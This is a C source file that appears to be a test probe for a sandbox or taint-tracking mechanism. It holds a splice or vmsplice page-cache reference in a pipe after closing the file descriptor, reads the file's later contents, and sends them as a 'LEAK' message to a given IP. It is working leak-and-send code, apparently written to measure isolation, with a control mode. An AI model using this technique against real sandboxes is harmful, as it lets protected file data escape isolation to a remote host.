// splicehold IP PATH: sends PRE; opens PATH (an ordinary file now), splices its first
// page into a pipe (the pipe buffer holds a reference to the page-cache folio, not a
// copy), closes the descriptor (the sandbox now holds no descriptor, mapping, cwd or
// root of the file), says ready, then waits and reads the pipe: the bytes are the
// folio's *current* content. With a 4th argument "hold" (control) the descriptor stays open;
// "vmsplice": the page goes into the pipe through a shared mapping, unmapped at once.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <time.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  int p[2]; if(pipe(p)){perror("pipe");return 1;}
  int vm=argc>4&&!strcmp(argv[4],"vmsplice"); ssize_t n;
  if(vm){ // the same through a shared mapping of the file, given to the pipe, then unmapped
    void*a=mmap(0,4096,PROT_READ,MAP_SHARED,fd,0); if(a==MAP_FAILED){perror("mmap");return 1;}
    struct iovec v={a,30}; n=vmsplice(p[1],&v,1,0); munmap(a,4096); printf("vmsplice then munmap: ");
  } else n=splice(fd,NULL,p[1],NULL,4096,0); printf("splice: %zd%s%s\n",n,n<0?" ":"",n<0?strerror(errno):"");
  if(n<=0) return 1;
  int hold=argc>4&&!strcmp(argv[4],"hold");
  if(!hold){ close(fd); printf("descriptor closed: holding only the pipe\n"); } else printf("control: descriptor kept open\n");
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(atoi(argc>3?argv[3]:"3"));
  char buf[4097]={0}; ssize_t r=read(p[0],buf,4096); if(r<0){perror("read");return 1;}
  printf("PIPE READS %zd bytes: %.40s\n",r,buf);
  char m[128]; int l=snprintf(m,sizeof m,"LEAK:%.40s",buf);
  printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
